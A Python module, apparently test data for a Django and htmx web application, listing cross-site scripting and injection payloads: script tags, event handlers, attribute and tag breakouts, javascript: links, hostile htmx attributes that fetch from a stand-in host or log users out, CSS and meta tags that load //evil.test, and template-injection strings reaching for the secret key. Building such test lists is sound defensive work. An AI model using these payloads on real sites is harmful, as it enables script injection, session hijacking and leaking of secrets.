"""What strangers may write into a message, a name or an error, in the hope that a page takes it for its own."""

CALL = "alert(1)"
EVIL = "//evil.test/x"
SCRIPTS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src={EVIL}></script>",
    f"<script\n>{CALL}</script\n>",
    f"<script/x>{CALL}</script>",
    f"<<script>{CALL}//<</script>",
    f"<script>{CALL}",
    f"</script><script>{CALL}</script>",
    f"<script type=module>import'{EVIL}'</script>",
    f"<script type=text/hyperscript>{CALL}</script>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><script href=data:,{CALL} />",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<math><mtext></p><script>{CALL}</script>",
]
HANDLERS = [
    f"<{tag} {event}={CALL}>"
    for tag, event in (
        ("img src=x", "onerror"),
        ("img src", "OnErRoR"),
        ("svg", "onload"),
        ("svg/", "onload"),
        ("svg\t", "onload"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("iframe", "onload"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video><source", "onerror"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("object data=x", "onerror"),
        ("embed src=x", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("style", "onload"),
        ("div", "onmouseover"),
        ("p style=animation-name:x", "onanimationstart"),
        ("dialog open", "onclose"),
        ("button popovertarget=x", "onbeforetoggle"),
        ("math", "onclick"),
    )
]
BREAKOUTS = [
    f"{quote}{end}{inside}"
    for quote in ('"', "'", "`", "")
    for end, inside in (
        (">", f"<img src=x onerror={CALL}>"),
        (" ", f"onmouseover={CALL} x="),
        (" ", f"autofocus onfocus={CALL} x="),
        (" ", "hx-get=/ hx-trigger=load x="),
    )
]
CLOSERS = [
    f"</{tag}><img src=x onerror={CALL}>"
    for tag in ("textarea", "title", "style", "script", "noscript", "option></select", "button", "bdi", "article")
] + [f"--><img src=x onerror={CALL}>", f"]]><img src=x onerror={CALL}>", f"*/<img src=x onerror={CALL}>"]  # fmt: skip
LINKS = [
    f"{scheme}"
    for scheme in (
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f"java\tscript:{CALL}",
        f"\x01javascript:{CALL}",
        f"vbscript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        f"<a href=javascript:{CALL}>x</a>",
        f"<a href='java&#115;cript:{CALL}'>x</a>",
        f"<form action=javascript:{CALL}><button>",
        f"<button formaction=javascript:{CALL}>",
        f"<iframe src=javascript:{CALL}>",
        f"<iframe srcdoc='<script>{CALL}</script>'>",
        f"<a href={EVIL} ping={EVIL}>x</a>",
        f"<object data=javascript:{CALL}>",
        f"[x](javascript:{CALL})",
    )
]
HTMX = [
    "<p hx-get=/ hx-trigger=load>",
    f"<p hx-get={EVIL} hx-trigger=load>",
    "<p data-hx-get=/ data-hx-trigger=load>",
    f"<p hx-on:click={CALL}>",
    f"<p hx-on::load={CALL}>",
    f"<p hx-on='load: {CALL}'>",
    f"<p data-hx-on:load={CALL}>",
    "<p hx-post=/accounts/logout/ hx-trigger=load>",
    "<p hx-delete=/ hx-trigger=revealed>",
    "<p id=banner hx-swap-oob=true>",
    "<p hx-swap-oob='beforeend:#cards'>",
    f"<p hx-vals='js:{{x:{CALL}}}'>",
    f"<p hx-headers='js:{{x:{CALL}}}' hx-get=/>",
    f"<p hx-get=/ hx-trigger='load[{CALL}]'>",
    f"<p hx-ext=sse sse-connect={EVIL}>",
    "<p hx-boost=true><a href=/accounts/logout/>x</a>",
    f"<p hx-request='js: {CALL}'>",
    "<p hx-select-oob=#banner hx-get=/>",
    "<meta name=htmx-config content='{\"selfRequestsOnly\":false}'>",
    f"<article id=order-1 data-version=999 hx-get={EVIL}>",
    "<template hx-swap-oob=innerHTML:#main>x</template>",
]
PAGES = [
    f"<meta http-equiv=refresh content=0;url={EVIL}>",
    '<meta http-equiv=content-security-policy content="script-src *">',
    f"<base href={EVIL}>",
    f"<form action={EVIL}><input type=submit>",
    f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>",
    f"<style>@import'{EVIL}';</style>",
    f"<style>*{{background:url({EVIL})}}</style>",
    f"<p style=background:url({EVIL})>",
    "<p style=position:fixed;inset:0>",
    f"<img src={EVIL}>",
    f"<img srcset={EVIL}>",
    f"<video poster={EVIL}>",
    f"<image href={EVIL}>",
    f"<svg><use href={EVIL}#x />",
    f"<input type=image src={EVIL}>",
    "<dialog open>You are signed out</dialog>",
    "<p id=dialog-body>x",
    "<p id=cards name=cards>",
    "<p class='box box-code' data-copy=666>",
    "<button data-copy=666 data-copied-url=/accounts/logout/>",
    "<!--",
    "<![CDATA[",
    "<?xml version='1.0'?>",
    "<plaintext>",
    "<xmp>",
    "<bdo dir=rtl>",
]
TEXTS = [
    "{{ 7|add:7 }}",
    "{% include '400.html' %}",
    "{# x #}",
    "{{settings.SECRET_KEY}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%3Cscript%3E",
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&quot;onmouseover=x",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "\uff1cscript\uff1e",
    "\u202etxet",
    "\u2066\u2067x",
    "\u200b\u200c\u200d\u2060\ufeff",
    "a\u2028b\u2029c",
    "\\",
    "\\\"'",
    "\r\nevent: board\r\ndata: x",
    "=HYPERLINK(1)",
    "%s %d %n",
    "{outcome} {0} {x.__class__}",
]
PAYLOADS = SCRIPTS + HANDLERS + BREAKOUTS + CLOSERS + LINKS + HTMX + PAGES + TEXTS
WORST = [
    *SCRIPTS[:3], *HANDLERS[:3], HANDLERS[8], HANDLERS[14], *BREAKOUTS[:4], CLOSERS[0], LINKS[6], LINKS[10],
    HTMX[0], HTMX[3], HTMX[9], PAGES[0], PAGES[10],
]  # fmt: skip


def packed(length, payloads=PAYLOADS):
    """The payloads in as few texts of at most `length` characters as they need, in their order."""
    texts = [""]
    for payload in payloads:
        if len(texts[-1]) + len(payload) > length:
            texts.append("")
        texts[-1] += payload
    return texts
